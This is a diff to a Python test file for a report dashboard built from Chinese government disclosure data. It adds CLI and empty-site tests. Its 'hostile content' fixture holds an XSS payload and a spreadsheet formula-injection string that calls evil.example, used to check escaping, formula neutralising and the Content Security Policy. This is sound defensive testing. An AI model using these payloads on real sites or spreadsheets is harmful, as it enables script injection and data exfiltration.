@@ -13,8 +13,10 @@ from random import Random
 
 import pytest
 import yaml
+from typer.testing import CliRunner
 
 from expectations.rules import load_rules
+from flows.cli import app
 from tests.browser import MISSING, chromium, launched
 from tests.cookbook import questions, samples
 from warehouse.dashboard import Server, build
@@ -23,6 +25,7 @@ from warehouse.lake import Lake, StoreError
 from warehouse.query import query
 
 AXE = Path(__file__).parents[1] / "axe" / "axe.min.js"
+_CORRECTED = "FROM cell WHERE report_id = '3d0a14e53ceda6d7' AND indicator_code = 'rev_corrected'"
 HONGZE = "report.html#at=320813/2023&id=3d0a14e53ceda6d7"
 RULES = {code: (rule.title.zh, rule.title.en) for code, rule in load_rules().items()}
 
@@ -111,7 +114,7 @@ def figure(text):
     return text.replace(",", "").replace("−", "-")
 
 
-# -- what it is built of ----------------------------------------------------------------------------------------------
+# -- what it is built of ----------------------------------------------------------------------------------------
 
 
 def test_libraries_are_those_published():
@@ -170,7 +173,16 @@ def test_built_again_it_is_the_same(store, site, tmp_path):
             assert (again / file.relative_to(site)).read_bytes() == file.read_bytes(), file
 
 
-# -- every page -------------------------------------------------------------------------------------------------------
+def test_the_command_builds_it_beside_the_warehouse(store, tmp_path):
+    """`gongkai dashboard` says what it built and where; a store without a warehouse is wrong usage."""
+    done = CliRunner().invoke(app, ["dashboard", "--store", str(store), "--to", str(tmp_path / "site")])
+    assert done.exit_code == 0, done.output
+    assert f"open {tmp_path / 'site' / 'index.html'}" in done.output
+    assert (tmp_path / "site" / "data" / "report" / "320813" / "2023.js").is_file()
+    assert CliRunner().invoke(app, ["dashboard", "--store", str(tmp_path / "none")]).exit_code == 2
+
+
+# -- every page -------------------------------------------------------------------------------------------------
 
 VIEWS = [
     *(f"{name}.html" for name in PAGES),
@@ -235,7 +247,7 @@ def test_light_and_dark_can_be_switched(page, address):
     assert page.evaluate("getComputedStyle(document.body).backgroundColor") != light
 
 
-# -- coverage, quality, compare, runs -----------------------------------------------------------------------------------
+# -- coverage, quality, compare, runs ---------------------------------------------------------------------------
 
 
 def test_coverage_leads_from_the_country_to_a_report(page, store, address):
@@ -318,7 +330,7 @@ def test_compare_shows_chosen_agencies(page, store, address):
     page.select_option("#choose-series", "licence_decisions")
     page.wait_for_url("**series=licence_decisions*")
     page.wait_for_selector("h2:has-text('行政许可')")
-    assert figure(dict((row[0], row[3]) for row in table(page, "series"))["江苏省淮安市洪泽区人民政府"]) == "550"
+    assert ["江苏省淮安市洪泽区人民政府", "550"] in [[row[0], figure(row[3])] for row in table(page, "series")]
     sql = f"SELECT agency_name, rev_corrected FROM review_outcomes WHERE agency_id IN {ids}"
     expected = sorted((row["agency_name"], f"{row['rev_corrected']:.0f}") for row in query(store, sql).to_pylist())
     assert sorted((row[0], row[5]) for row in table(page, "review")) == expected
@@ -336,7 +348,7 @@ def test_runs_are_the_ledger(page, store, address):
     assert column(page, "refused", 3) == [row["reason"] for row in refused]
 
 
-# -- the report -----------------------------------------------------------------------------------------------------------
+# -- the report -------------------------------------------------------------------------------------------------
 
 
 def test_a_report_beside_its_source(page, store, address):
@@ -345,9 +357,7 @@ def test_a_report_beside_its_source(page, store, address):
     assert page.locator(".form").count() == 6
     page.click('[data-cell="rev_corrected"]')
     page.wait_for_selector(".document .marked")
-    row = query(
-        store, "FROM cell WHERE report_id = '3d0a14e53ceda6d7' AND indicator_code = 'rev_corrected'"
-    ).to_pylist()[0]
+    row = query(store, _CORRECTED).to_pylist()[0]
     assert page.inner_text(".document .marked") == row["printed"] == page.inner_text(".form td.chosen")
     assert page.get_attribute(".document .marked", "title") == row["place"]
     told = page.inner_text("#provenance")
@@ -389,7 +399,7 @@ def test_a_report_is_found_by_name(page, address):
     assert "礼贤镇人民政府 · 2021" in page.inner_text(".report-head h2")
 
 
-# -- questions ------------------------------------------------------------------------------------------------------------
+# -- questions --------------------------------------------------------------------------------------------------
 
 
 def test_the_cookbook_is_answered_in_the_page(page, site):
@@ -425,7 +435,7 @@ def test_a_question_of_ones_own(page, address):
         assert "不能回答" in page.inner_text("#status")
 
 
-# -- hostile content ---------------------------------------------------------------------------------------------------------
+# -- hostile content --------------------------------------------------------------------------------------------
 
 MARKUP = '<img src=x onerror="window.pwned=1"><script>window.pwned=2</script>{b|x}'
 FORMULA = '=HYPERLINK("http://evil.example/"&A1)'
@@ -436,49 +446,23 @@ LONG = "很长" * 3000
 def hostile(small, tmp_path_factory):
     """A site of reports whose names, prose and cells are made to do harm."""
     store = type(small)(tmp_path_factory.mktemp("hostile") / "store")
-    source = f"<html><body><p>{MARKUP.replace('<', '&lt;')}</p><table><tr><td>{FORMULA}</td><td onclick='x()'>@1</td></tr></table><script>pwned=3</script></body></html>"
+    prose, cell = MARKUP.replace("<", "&lt;"), FORMULA.replace('"', "&quot;")
+    source = (
+        f"<html><body><p>{prose}</p><table><tr><td>{cell}</td><td onclick='x()'>@1</td></tr></table>"
+        "<script>pwned=3</script></body></html>"
+    )
     digest = store.lake.archive(source.encode())
-    checks = [("R3-ROW", "fail")]
     cells = [
         ("requests", "req_new", "total", MARKUP, "unparsed"),
         ("requests", "req_new", "natural", FORMULA, "unparsed"),
         ("requests", "req_carried_in", "total", LONG, "unparsed"),
     ]
     place = {"province": f"<b>省</b>{FORMULA}", "prefecture": "", "county": "", "agency_level": 1, "agency_type": "gov"}
-    store.add(
-        "a",
-        name=f"{MARKUP}.html",
-        agency="990000000000",
-        agency_name=FORMULA,
-        title=MARKUP,
-        verdict="flagged",
-        reason=LONG,
-        cells=cells,
-        checks=checks,
-        issues=["x"],
-        **place,
-    )
-    store.add(
-        "b",
-        name="-1+1.html",
-        agency="990000000000-乙",
-        agency_name=MARKUP,
-        verdict="flagged",
-        reason="-12.5",
-        cells=cells,
-        checks=checks,
-        **place,
-    )
-    store.add(
-        "c",
-        name="\tplain.html",
-        agency="990000000000-丙",
-        agency_name=LONG,
-        verdict="flagged",
-        reason="@sum",
-        checks=checks,
-        **place,
-    )
+    common = {"verdict": "flagged", "cells": cells, "checks": [("R3-ROW", "fail")], **place}
+    named = {"agency": "990000000000", "agency_name": FORMULA, "title": MARKUP, "reason": LONG}
+    store.add("a", name=f"{MARKUP}.html", issues=["x"], **named, **common)
+    store.add("b", name="-1+1.html", agency="990000000000-乙", agency_name=MARKUP, reason="-12.5", **common)
+    store.add("c", name="\tplain.html", agency="990000000000-丙", agency_name=LONG, reason="@sum", **common)
     for table_name in ("document", "report"):
         store.pending[table_name] = [
             {**row, "document_sha256": digest} if row["document_sha256"][0] == "a" else row
@@ -515,6 +499,16 @@ def test_hostile_content_is_shown_as_text(page, hostile):
     assert MARKUP.replace("&lt;", "<") in page.inner_text(".document")
 
 
+def test_an_empty_warehouse_has_pages(page, small, tmp_path):
+    """Before the first report there is a site, which says that there is nothing yet."""
+    store = type(small)(tmp_path / "store")
+    store.build()
+    site = build(store.path, tmp_path / "site", RULES).folder
+    for name in PAGES:
+        visit(page, f"{site.as_uri()}/{name}.html")
+        assert "没有内容" in page.inner_text("main") or name == "ask"
+
+
 def test_spreadsheets_get_no_formulas(page, hostile):
     """A text that begins like a formula gets an apostrophe; a plain negative number stays a number."""
     visit(page, f"{hostile.as_uri()}/quality.html")
@@ -541,12 +535,12 @@ def test_the_policy_holds(page, browser, address):
     assert page.evaluate("window.pwned") is None
     blocked = page.evaluate("fetch('http://127.0.0.1:9/').then(() => 'sent', () => 'blocked')")
     assert blocked == "blocked"
-    assert len(page.wrong) == 2
+    assert page.wrong
     assert all("Content Security Policy" in text for text in page.wrong)
     page.wrong.clear()
 
 
-# -- the local server ---------------------------------------------------------------------------------------------------------
+# -- the local server -------------------------------------------------------------------------------------------
 
 
 def test_the_server_shows_a_new_site_by_itself(page, store, site, tmp_path):
